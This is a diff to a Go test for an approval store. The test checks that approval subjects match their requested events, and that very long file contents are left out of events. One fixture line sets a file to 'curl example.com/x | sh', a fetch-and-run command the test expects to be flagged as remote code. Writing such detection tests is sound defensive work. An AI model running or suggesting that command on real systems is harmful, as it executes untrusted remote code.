@@ -1,8 +1,10 @@
 package store_test
 
 import (
+	"encoding/json"
 	"maps"
 	"slices"
+	"strings"
 	"testing"
 	"time"
 
@@ -84,16 +86,40 @@ func TestSubject_IsAllThatTheDigestBindsAndWhatItWasBefore(t *testing.T) {
 		return subject
 	}
 
+	inEvent := func(approval string) *schema.Subject {
+		t.Helper()
+		events, err := s.Events(ctx, b.session, store.EventFilter{Types: []schema.EventType{schema.EventApprovalRequested}})
+		must(t, err)
+		for _, e := range events {
+			var data schema.ApprovalRequestedData
+			must(t, json.Unmarshal(e.Data, &data))
+			if data.ApprovalID == approval {
+				return data.Subject
+			}
+		}
+		t.Fatalf("nobody was asked %s", approval)
+		return nil
+	}
+	sameInEvent := func(is schema.Subject) {
+		t.Helper()
+		if got := inEvent(is.ApprovalID); got == nil || string(schema.Marshal(got)) != string(schema.Marshal(is)) {
+			t.Errorf("the event has %s, and the approval is about %s", schema.Marshal(got), schema.Marshal(is))
+		}
+	}
+
 	whole := of(ask(1, schema.ApprovalPlan, "", first.Digest()))
 	if whole.Plan.Digest() != first.Digest() || whole.Before != nil || whole.Attention == nil {
 		t.Fatalf("%+v", whole)
 	}
+	sameInEvent(whole)
 	made, _ := first.Step("make")
 	gate := ask(2, schema.ApprovalStep, "make", first.StepDigest(made))
 	step := of(gate)
 	if len(step.Plan.Steps) != 1 || step.Plan.Steps[0].ID != "make" || step.Plan.Files["it"] != "a\x00b" || step.Digest != first.StepDigest(made) || step.Before != nil {
 		t.Fatalf("%+v", step)
 	}
+
+	sameInEvent(step)
 
 	// A file is changed: the command in question stays the same, but what it does changes.
 	second.Files["it"] = "curl example.com/x | sh"
@@ -104,6 +130,7 @@ func TestSubject_IsAllThatTheDigestBindsAndWhatItWasBefore(t *testing.T) {
 	if again.Before == nil || again.Before.ApprovalID != gate || again.Before.Plan.Files["it"] != "a\x00b" || again.Plan.Files["it"] != second.Files["it"] {
 		t.Fatalf("%+v", again)
 	}
+	sameInEvent(again)
 	if len(again.Attention) != 1 || again.Attention[0].Kind != schema.AttentionRemoteCode || again.Attention[0].File != "it" {
 		t.Fatalf("%+v", again.Attention)
 	}
@@ -114,6 +141,20 @@ func TestSubject_IsAllThatTheDigestBindsAndWhatItWasBefore(t *testing.T) {
 	asked := of(ask(4, schema.ApprovalProgramAsk, "make", "d"))
 	if asked.Plan != nil || asked.Digest != "d" {
 		t.Fatalf("%+v", asked)
+	}
+	if got := inEvent(asked.ApprovalID); got != nil {
+		t.Errorf("a step's own question comes with %+v", got)
+	}
+
+	// What is long is not sent to every viewer.
+	long := *second
+	long.Files = map[string]string{"it": strings.Repeat("x", 17<<10)}
+	lengthen := b.revise("make", `{"files": {"it": "`+long.Files["it"]+`"}}`)
+	lengthen.Key = "2"
+	_, err := s.Revise(ctx, lengthen)
+	must(t, err)
+	if id := ask(6, schema.ApprovalStep, "make", long.StepDigest(made)); inEvent(id) != nil || of(id).Plan == nil {
+		t.Errorf("the event has %+v, and the approval is about %+v", inEvent(id), of(id))
 	}
 	for _, id := range []string{"x", schema.NewID(), ask(5, schema.ApprovalStep, "make", "never kept")} {
 		_, err := s.Subject(ctx, id)
